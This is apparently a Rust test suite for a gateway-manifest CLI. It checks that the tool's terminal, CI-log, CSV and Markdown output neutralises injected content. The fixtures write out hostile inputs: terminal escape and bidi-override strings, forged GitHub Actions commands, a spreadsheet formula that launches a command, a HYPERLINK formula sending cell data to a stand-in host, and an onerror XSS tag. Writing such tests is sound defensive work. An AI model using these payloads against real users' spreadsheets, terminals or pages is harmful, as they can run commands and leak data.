//! Output is safe where it goes: no text of a manifest, a path or another program steers a terminal, a log or a spreadsheet.

mod program;

use std::process::Stdio;

use program::{Run, Scratch, program};

/// Escapes in double quotes, as no reader takes the characters themselves: an escape sequence, C1, backspace, delete, line ends, what turns
/// the direction of the text round, and what shows nothing.
const ODD: &str = "\\e]0;t\\a\\x9b31m\\b\\x7f\\r\\n::set-output name=a::b\\n##[add-mask]c\\u202e\\u2066\\u200e\\u061c\\u2028\\uFFFE\
     \\u200b\\u200d\\u2060\\ufeff\\u00ad\\U000e0041";

fn is_odd(c: char) -> bool {
    (c.is_control() && !matches!(c, '\n' | '\t'))
        || matches!(
            c,
            '\u{ad}'
                | '\u{61c}'
                | '\u{200b}'..='\u{200f}'
                | '\u{2028}'..='\u{202e}'
                | '\u{2060}'..='\u{206f}'
                | '\u{feff}'
                | '\u{e0000}'..='\u{e007f}'
        )
}

/// A host, a group and its upstreams, all of them with the odd text somewhere, and a comment that turns round.
fn manifest() -> String {
    format!(
        "apiVersion: gateway.solo.io/v1
kind: VirtualService
metadata: {{name: \"v{ODD}\", namespace: b, labels: {{\"{ODD}\": \"{ODD}\"}}}}
spec:
  virtualHost:
    domains: [\"{ODD}\", d.example.com]
    \"{ODD}\": 1
    routes:
    - name: \"{ODD}\"
      matchers: [{{prefix: \"/{ODD}\", headers: [{{name: x, value: \"{ODD}\"}}]}}]
      routeAction: {{upstreamGroup: {{name: g, namespace: b}}}}
    - matchers: [{{regex: \"(\\u202e\"}}]
      routeAction: {{single: {{upstream: {{name: \"{ODD}\", namespace: \"{ODD}\"}}}}}}
---
apiVersion: gloo.solo.io/v1
kind: UpstreamGroup
metadata: {{name: g, namespace: b}}
spec:
  # \u{202e}round\u{61c}\u{200b}\u{feff}\u{e0041}
  destinations:
  - destination: {{upstream: {{name: \"u{ODD}\", namespace: b}}}}
    weight: 1
  - destination: {{upstream: {{name: w, namespace: b}}}}
    weight: 3
x: |
 ::add-mask::b
 ##[add-mask]b
---
apiVersion: gloo.solo.io/v1
kind: UpstreamGroup
metadata: {{name: \"g\\uFFFE{ODD}\", namespace: \"{ODD}\"}}
spec: {{}}
---
apiVersion: gloo.solo.io/v1
kind: UpstreamGroup
metadata: {{name: h, namespace: b}}
spec:
  # \u{202e}round\u{2060}\u{e0020}
  destinatoins:
  - destination: {{upstream: {{name: w, namespace: b}}}}
    weight: 1
"
    )
}

fn runs() -> Vec<Vec<&'static str>> {
    let mut runs: Vec<Vec<&str>> = vec![
        vec!["check", "--fix", "--diff", "a.yaml"],
        vec!["set", "b/g", "w=9", "a.yaml"],
        vec!["set", "b/g", "nothing=9", "a.yaml"],
        vec!["set", "nothing", "w=9", "a.yaml"],
        vec!["rollout", "b/g", "--to", "w", "--steps", "80,100", "a.yaml"],
        vec!["render", "-v", "--precision", "3", "."],
        vec!["render", "no\u{202e}where\u{1b}[1m"],
        vec!["check", "git:\u{1b}[1mx"],
        vec!["ch\u{1b}eck"],
        vec!["check", "--rule", "x\u{202e}=off"],
        vec!["set", "b/g", "w=9", "--write", "b.yaml"],
    ];
    for format in ["human", "concise", "json", "sarif", "junit", "github", "gitlab", "checkstyle", "markdown"] {
        runs.push(vec!["check", "--format", format, "a.yaml"]);
    }
    for format in ["table", "json", "yaml", "csv", "markdown"] {
        runs.push(vec!["render", "--format", format, "a.yaml"]);
    }
    for format in ["human", "json", "markdown"] {
        runs.push(vec!["diff", "--yaml", "--order", "--format", format, "a.yaml", "b.yaml"]);
        runs.push(vec!["diff", "--yaml", "--order", "--format", format, "b.yaml", "a.yaml"]);
    }
    for format in ["human", "json"] {
        runs.push(vec!["trace", "GET", "http://d.example.com/x", "--format", format, "a.yaml"]);
        runs.push(vec!["trace", "GET", "http://d.example.com/\u{202e}\u{1b}", "--format", format, "a.yaml"]);
    }
    for kind in ["json6902", "strategic", "kubectl"] {
        runs.push(vec!["set", "b/g", "w=9", "--patch", kind, "a.yaml"]);
        runs.push(vec!["rollout", "b/g", "--to", "w", "--steps", "80,100", "--patch", kind, "a.yaml"]);
    }
    for format in ["dot", "mermaid", "svg", "json"] {
        runs.push(vec!["graph", "--format", format, "a.yaml"]);
    }
    for format in ["json", "markdown", "csv"] {
        runs.push(vec!["rollout", "b/g", "--to", "w", "--steps", "80,100", "--format", format, "a.yaml"]);
        runs.push(vec!["set", "b/g", "w=9", "--format", format, "a.yaml"]);
    }
    for format in ["human", "json", "concise", "junit", "markdown"] {
        runs.push(vec!["test", "--format", format, "--coverage", "odd.tests", "a.yaml"]);
    }
    for command in ["config", "env"] {
        for format in ["human", "json"] {
            runs.push(vec![command, "--format", format, "--no-config"]);
            runs.push(vec![command, "--format", format, "--config", "odd.config"]);
        }
    }
    runs.push(vec!["trace", "--requests", "odd.requests", "a.yaml"]);
    runs.push(vec!["convert", "a.yaml"]);
    runs.push(vec!["convert", "--format", "json", "a.yaml"]);
    runs.push(vec!["convert", "--allow-partial", "-o", "out", "a.yaml"]);
    runs.push(vec!["test", "--suggest", "odd.tests", "a.yaml"]);
    runs.push(vec!["check", "--statistics", "-v", "--config", "odd.config", "a.yaml"]);
    runs.push(vec!["render", "--host", "\u{200b}no\u{202e}where", "a.yaml"]);
    runs.push(vec!["explain", "\u{1b}[1m\u{e0041}"]);
    runs.push(vec!["graph", "--of", "no\u{202e}\u{200b}", "a.yaml"]);
    runs
}

fn scratch() -> Scratch {
    let scratch = Scratch::new();
    scratch.write("a.yaml", manifest());
    scratch.write(
        "odd.tests",
        format!("tests:\n- name: \"{ODD}\"\n  request: GET http://d.example.com/\n  expect: {{upstream: \"{ODD}\"}}\n"),
    );
    let path = "/\\u001b\\u202e\\u009b\\udb40\\udc41";
    scratch.write(
        "odd.requests",
        format!("{{\"method\": \"GET\", \"url\": \"http://d.example.com{path}\"}}\n{{\"method\": \"G{path}\"}}\n"),
    );
    scratch.write("odd.config", format!("\"{ODD}\": 1\nrules: {{\"{ODD}\": off}}\nexternal: [\"{ODD}\"]\n"));
    scratch.write("b.yaml", manifest().replace("weight: 1\n", "weight: 7\n").replace("name: v", "name: z"));
    #[cfg(unix)]
    std::os::unix::fs::symlink("nowhere", scratch.path().join("\u{1b}]0;t\u{7}\u{202e}\n::error::x.yaml"))
        .expect("a link");
    scratch
}

fn run(scratch: &Scratch, arguments: &[&str], variables: &[(&str, &str)]) -> Run {
    let mut command = program(scratch.path());
    command.args(arguments).envs(variables.iter().copied()).stdin(Stdio::null());
    let output = command.output().expect("it runs");
    let text = |bytes| String::from_utf8(bytes).expect("UTF-8");
    Run { code: output.status.code().expect("no signal"), out: text(output.stdout), said: text(output.stderr) }
}

#[test]
fn no_stream_of_any_command_steers_a_terminal() {
    for arguments in runs() {
        let run = run(&scratch(), &arguments, &[]);
        assert!(!run.out.is_empty() || !run.said.is_empty(), "{arguments:?}");
        // The runs that end lines with a carriage return as their form has it.
        let is_csv = arguments.contains(&"csv");
        for (name, text) in [("stdout", &run.out), ("stderr", &run.said)] {
            let odd = text.char_indices().find(|&(at, c)| is_odd(c) && !(is_csv && text[at..].starts_with("\r\n")));
            assert_eq!(odd, None, "{arguments:?} {name}: {:?}", odd.map(|(at, _)| &text[at..]));
        }
    }
}

#[test]
fn no_line_is_a_command_to_who_reads_the_log() {
    for arguments in runs() {
        let run = run(&scratch(), &arguments, &[("GITHUB_ACTIONS", "true")]);
        for line in run.out.lines().chain(run.said.lines()) {
            let own = ["::error ", "::warning ", "::notice "].iter().any(|own| line.starts_with(own));
            let is_command = line.trim_start().starts_with("::") || line.contains("##[");
            assert!(!is_command || (own && arguments.contains(&"github")), "{arguments:?}: {line}");
        }
    }
}

#[test]
fn a_spreadsheet_runs_no_cell() {
    let scratch = Scratch::new();
    scratch.write(
        "a.yaml",
        "apiVersion: gateway.solo.io/v1\nkind: VirtualService\nmetadata: {name: v, namespace: b}\nspec:\n  virtualHost:\n    \
         domains: ['=cmd|\"/c calc\"!A1', '+1+1']\n    routes:\n    - name: '=HYPERLINK(\"http://a.example?\"&A1,\"x\")'\n      \
         matchers: [{prefix: /}]\n      routeAction: {upstreamGroup: {name: '-2+3', namespace: ''}}\n",
    );
    let table = scratch.run(&["render", "--format", "csv"]).out;
    let raw = scratch.run(&["render", "--format", "csv", "--csv-raw"]).out;
    let is_formula = |cell: &str| cell.trim_start_matches('"').starts_with(['=', '+', '-', '@']);
    assert!(!table.split([',', '\n']).any(is_formula), "{table}");
    assert!(table.contains("\"'=HYPERLINK(\"\"http"), "{table}");
    assert!(raw.contains("\"=HYPERLINK(\"\"http"), "{raw}");
    assert_eq!(table.replace("'=", "=").replace("'-", "-").replace("'+", "+"), raw);
}

/// What a page must not hold, as a reader of GitHub's Markdown sees it.
fn active(page: &str) -> Vec<String> {
    use comrak::nodes::NodeValue;
    let mut options = comrak::Options::default();
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.strikethrough = true;
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, page, &options);
    let own = ["<br>", "<details>\n<summary>", "<details open>\n<summary>", "</details>"];
    let mut found = Vec::new();
    for node in root.descendants() {
        match &node.data.borrow().value {
            NodeValue::Link(link) | NodeValue::Image(link) => found.push(format!("a link to {}", link.url)),
            NodeValue::Strikethrough => found.push("struck out".to_owned()),
            NodeValue::HtmlInline(html) if !own.contains(&html.as_str()) => found.push(html.clone()),
            NodeValue::HtmlBlock(html) if !own.iter().any(|own| html.literal.starts_with(own)) => {
                found.push(html.literal.clone());
            }
            NodeValue::HtmlBlock(html) if html.literal.matches('<').count() > 3 => found.push(html.literal.clone()),
            NodeValue::Text(text) if text.contains(['@', '`']) || text.contains("//") => found.push(text.to_string()),
            _ => {}
        }
    }
    found
}

#[test]
fn a_page_of_markdown_says_only_what_we_say() {
    for live in ["<b>", "[a](b)", "http://a.example", "~~c~~", "a@b.example", "@x", "![a](b)"] {
        assert!(!active(live).is_empty(), "the reader sees what there is to see: {live}");
    }
    assert!(active("`@x` *a* b").is_empty());
    let odd = "x`` @everyone [click](http://evil.example) <img src=x onerror=alert(1)> ``y";
    let other = "| a @octocat http://evil.example <b>x</b> ~~s~~ &lt; ![i](http://evil.example/p.png) www.evil.example a@evil.example #1 \\|";
    let quoted = |text: &str| serde_json::to_string(text).expect("a text");
    let text = |weight: u32| {
        let [odd, other] = [odd, other].map(quoted);
        format!(
            "apiVersion: gateway.solo.io/v1\nkind: VirtualService\nmetadata: {{name: v, namespace: b}}\nspec:\n  virtualHost:\n    \
             domains: [{odd}, {other}]\n    routes:\n    - matchers: [{{prefix: {odd}, headers: [{{name: x, value: {odd}}}]}}]\n      \
             name: {other}\n      routeAction: {{upstreamGroup: {{name: g, namespace: b}}}}\n    - matchers: [{{regex: {other}}}]\n      \
             routeAction: {{single: {{upstream: {{name: {other}, namespace: {odd}}}}}}}\n---\napiVersion: gloo.solo.io/v1\n\
             kind: UpstreamGroup\nmetadata: {{name: g, namespace: b}}\nspec:\n  # ```\n  # ~~~~~~\n  # <img src=x> @everyone\n  \
             destinations:\n  - destination: {{upstream: {{name: {odd}, namespace: b}}}}\n    weight: {weight}\n  \
             - destination: {{upstream: {{name: w, namespace: b}}}}\n    weight: 1\n ````\n"
        )
        .replace("\n ````\n", "\nx: |\n ````\n @everyone [click](http://evil.example)\n")
    };
    let scratch = Scratch::new();
    scratch.write("a.yaml", text(1));
    scratch.write("b.yaml", text(2));
    // A bar ends a cell of a table, also in code.
    let bars = "apiVersion: gateway.solo.io/v1\nkind: VirtualService\nmetadata: {name: v, namespace: b}\nspec:\n  virtualHost:\n    \
                domains: [d, '| a @octocat http://evil.example <b>x</b>']\n    routes:\n    - matchers: [{exact: '/| a @octocat <b>'}]\n      \
                redirectAction: {hostRedirect: '| @octocat <b>', pathRedirect: '/| @octocat'}\n    - matchers: [{prefix: /}]\n      \
                directResponseAction: {status: 200, body: '| @octocat'}\n";
    scratch.write("bars.yaml", bars);
    for arguments in [
        &["check", "a.yaml"][..],
        &["render", "a.yaml"],
        &["diff", "a.yaml", "b.yaml", "--yaml", "--order"],
        &["diff", "--order", "a.yaml", "/dev/null"],
        &["diff", "--order", "--yaml", "/dev/null", "a.yaml"],
        &["diff", "--order", "--yaml", "/dev/null", "bars.yaml"],
        &["set", "b/g", "w=9", "a.yaml"],
    ] {
        let run = scratch.run(&[arguments, &["--format", "markdown"]].concat());
        assert!(run.out.contains("everyone") || run.out.contains("octocat"), "{arguments:?}: {run:?}");
        assert_eq!(active(&run.out), Vec::<String>::new(), "{arguments:?}:\n{}", run.out);
    }
}

#[test]
fn a_page_of_markdown_is_no_longer_than_a_comment() {
    let scratch = Scratch::new();
    let group = |at: usize, weight: usize| {
        format!(
            "---\napiVersion: gloo.solo.io/v1\nkind: UpstreamGroup\nmetadata: {{name: group-{at}, namespace: b}}\nspec:\n  destinations:\n  \
             - destination: {{upstream: {{name: u, namespace: b}}}}\n    weight: {weight}\n  \
             - destination: {{upstream: {{name: w, namespace: b}}}}\n    weight: 1\n"
        )
    };
    scratch.write("a.yaml", (0..1500).map(|at| group(at, 0)).collect::<String>());
    scratch.write("b.yaml", (0..1500).map(|at| group(at, 9)).collect::<String>());
    for arguments in [&["check", "--closed", "a.yaml"][..], &["diff", "--yaml", "a.yaml", "b.yaml"]] {
        let run = scratch.run(&[arguments, &["--format", "markdown"]].concat());
        assert!(run.out.len() > 50_000 && run.out.len() <= 60_000, "{arguments:?}: {}", run.out.len());
        let last = run.out.lines().last().expect("a line");
        assert!(last.starts_with("**left out**, as a comment holds no more: "), "{last}");
    }
}
